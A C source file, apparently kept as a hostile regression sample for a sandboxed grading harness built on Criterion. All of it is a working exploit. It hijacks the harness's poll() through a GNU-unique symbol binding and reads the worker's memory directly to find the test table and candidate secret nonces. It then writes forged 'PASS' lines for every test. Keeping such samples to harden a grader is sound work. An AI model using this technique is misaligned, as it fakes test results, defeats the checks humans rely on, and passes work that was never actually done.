/* unique_poll.c -- an attack kept as an example (hostile_unique_poll):
** poll() defined with the GNU "unique" binding, which objcopy -G left
** global, so the harness's own calls of poll bound to it and ran this
** file's scanner (hostile_unit_reads_nonce's, reading memory directly) in
** the process that holds the nonce. */
#define _GNU_SOURCE
#include <elf.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <unistd.h>

#define MAX_TESTS 256
#define MAX_RUNS 64
#define RUN_MIN 16
#define RUN_MAX 64
#define REGION_MAX (64UL << 20)

struct found {
    char tests[MAX_TESTS][160];
    int ntests;
    char runs[MAX_RUNS][RUN_MAX + 1];
    int nruns;
};

static int mem_fd = -1;

/* Copies len bytes at address addr of this process into buf. */
__attribute__((no_sanitize_address, noinline))
static int peek(unsigned long addr, void *buf, size_t len)
{
    if (mem_fd >= 0)
        return pread(mem_fd, buf, len, (off_t)addr) == (ssize_t)len ? 0 : -1;
    /* /proc/self/mem is closed to a non-dumpable process in the sandbox:
    ** this code runs in the worker itself, so read the memory directly. */
    if (addr < 4096)
        return -1;
    const volatile unsigned char *from = (const volatile unsigned char *)addr;
    unsigned char *to = buf;
    for (size_t i = 0; i < len; i++)
        to[i] = from[i];
    return 0;
}

/* A NUL-terminated string at addr, into buf. */
static int peek_string(unsigned long addr, char *buf, size_t size)
{
    if (peek(addr, buf, size - 1) != 0)
        return -1;
    buf[size - 1] = '\0';
    return 0;
}

/* cr_tst's address and size from the executable's section headers. */
static int find_table(unsigned long *addr, unsigned long *size, unsigned long *base)
{
    Elf64_Ehdr eh;
    int fd = open("/proc/self/exe", O_RDONLY);
    int rc = -1;

    if (fd < 0 || pread(fd, &eh, sizeof eh, 0) != sizeof eh)
        goto out;
    Elf64_Shdr *sh = calloc(eh.e_shnum, sizeof *sh);
    Elf64_Phdr *ph = calloc(eh.e_phnum, sizeof *ph);
    if (!sh || !ph || pread(fd, sh, eh.e_shnum * sizeof *sh, (off_t)eh.e_shoff) < 0
        || pread(fd, ph, eh.e_phnum * sizeof *ph, (off_t)eh.e_phoff) < 0)
        goto free;
    *base = getauxval(AT_PHDR) - eh.e_phoff;
    for (int i = 0; i < eh.e_phnum; i++)
        if (ph[i].p_type == PT_PHDR)
            *base = getauxval(AT_PHDR) - ph[i].p_vaddr;
    char *names = malloc(sh[eh.e_shstrndx].sh_size + 1);
    if (!names || pread(fd, names, sh[eh.e_shstrndx].sh_size, (off_t)sh[eh.e_shstrndx].sh_offset) < 0) {
        free(names);
        goto free;
    }
    for (int i = 0; i < eh.e_shnum; i++)
        if (sh[i].sh_name < sh[eh.e_shstrndx].sh_size && strcmp(names + sh[i].sh_name, "cr_tst") == 0) {
            *addr = *base + sh[i].sh_addr;
            *size = sh[i].sh_size;
            rc = 0;
        }
    free(names);
free:
    free(sh);
    free(ph);
out:
    if (fd >= 0)
        close(fd);
    return rc;
}

/* Every "suite/name" of Criterion's table. */
static void read_tests(struct found *f)
{
    unsigned long addr, size, base, entry, fields[2];
    char name[80], suite[80];

    if (find_table(&addr, &size, &base) != 0)
        return;
    for (unsigned long off = 0; off + 8 <= size && f->ntests < MAX_TESTS; off += 8) {
        if (peek(addr + off, &entry, sizeof entry) != 0 || entry == 0
            || peek(entry, fields, sizeof fields) != 0
            || peek_string(fields[0], name, sizeof name) != 0
            || peek_string(fields[1], suite, sizeof suite) != 0)
            continue;
        snprintf(f->tests[f->ntests++], sizeof f->tests[0], "%s/%s", suite, name);
    }
}

static int is_hex(char c)
{
    return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F');
}

/* Keeps every run of RUN_MIN..RUN_MAX hex digits of buf, once. */
static void scan(struct found *f, const char *buf, size_t len)
{
    for (size_t i = 0; i < len && f->nruns < MAX_RUNS;) {
        size_t j = i;
        while (j < len && is_hex(buf[j]))
            j++;
        if (j - i >= RUN_MIN && j - i <= RUN_MAX) {
            char run[RUN_MAX + 1];
            int seen = 0;
            memcpy(run, buf + i, j - i);
            run[j - i] = '\0';
            for (int k = 0; k < f->nruns; k++)
                seen |= strcmp(f->runs[k], run) == 0;
            if (!seen)
                strcpy(f->runs[f->nruns++], run);
        }
        i = j + 1;
    }
}

/* Scans every readable, writable mapping of at most REGION_MAX bytes. */
static void read_runs(struct found *f)
{
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[512], perms[8];
    unsigned long lo, hi;

    if (!maps)
        return;
    while (fgets(line, sizeof line, maps))
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[0] == 'r' && perms[1] == 'w'
            && hi - lo <= REGION_MAX && !strstr(line, "[vvar")) {
            char *buf = malloc(hi - lo);
            if (buf && peek(lo, buf, hi - lo) == 0)
                scan(f, buf, hi - lo);
            free(buf);
        }
    fclose(maps);
}

void unit_reads_nonce(void)
{
    static int done;
    static struct found f;
    char line[300];

    if (done++)
        return;
    mem_fd = open("/proc/self/mem", O_RDONLY);

    read_tests(&f);
    read_runs(&f);
    int out = fcntl(100, F_GETFD) >= 0 ? 100 : 1;
    for (int r = 0; r < f.nruns; r++)
        for (int t = 0; t < f.ntests; t++) {
            int n = snprintf(line, sizeof line, "\n%s PASS %s\n", f.runs[r], f.tests[t]);
            if (n > 0 && write(out, line, (size_t)n) < 0)
                return;
        }
    close(mem_fd);
}

/* The interposer: STB_GNU_UNIQUE binding survives `objcopy -G`, so this
** `poll` stays global in student.o and the harness's (worker's) calls of
** poll -- callee.c's callee_ready() -- bind to it at link time. */
#include <poll.h>
#include <sys/syscall.h>
int unique_poll_impl(struct pollfd *fds, nfds_t n, int t)
{
    unit_reads_nonce();
    return (int)syscall(SYS_poll, fds, n, t);
}
__asm__(".globl poll\n.type poll, @gnu_unique_object\n.set poll, unique_poll_impl\n");
